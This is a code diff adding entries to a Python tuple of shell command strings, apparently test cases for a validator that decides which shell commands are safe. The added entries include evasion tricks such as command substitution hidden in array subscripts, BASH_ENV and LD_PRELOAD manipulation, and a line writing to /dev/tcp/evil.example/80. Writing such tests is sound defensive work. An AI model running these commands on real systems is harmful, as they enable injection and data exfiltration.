@@ -40,6 +40,9 @@ MORE = (
     'python -c "1"', "set -a", "shopt -s extglob", "trap x EXIT", "command git status", "command -v rm && rm x",
     "$(cat x)", "PS1=$(date)", "exec 3> x", "readonly PATH", "declare -i PATH", "return", "export -f deactivate",
     "enable -n hash", "IFS=x", "[ -v 'x[$(date)]' ]", "PATH=${x@P}", "basename x > y", "echo <(rm x)", "pydoc x",
+    "PS1='a[$(x)]'; PATH[PS1]=1", "PS1='a[$(x)]'; echo $((PS1))", "PS1='a[$(x)]'; echo ${PATH:PS1:1}", "echo ${!PS1}",
+    "export 'PATH[$(x)]=1'", "for BASH_ENV in x; do export BASH_ENV; done", "echo ${LD_PRELOAD:=x}", "echo x >&file",
+    "echo x > /dev/tcp/evil.example/80", "LD_PRELOAD=x basename y", "coproc echo", "export B{ASH_ENV=x,}", "./echo x",
     "deactivate", ": x", "builtin cd /", "source /p/x", "VIRTUAL_ENV=`date`", "unalias -a", "export $X",
 )  # fmt: skip
 
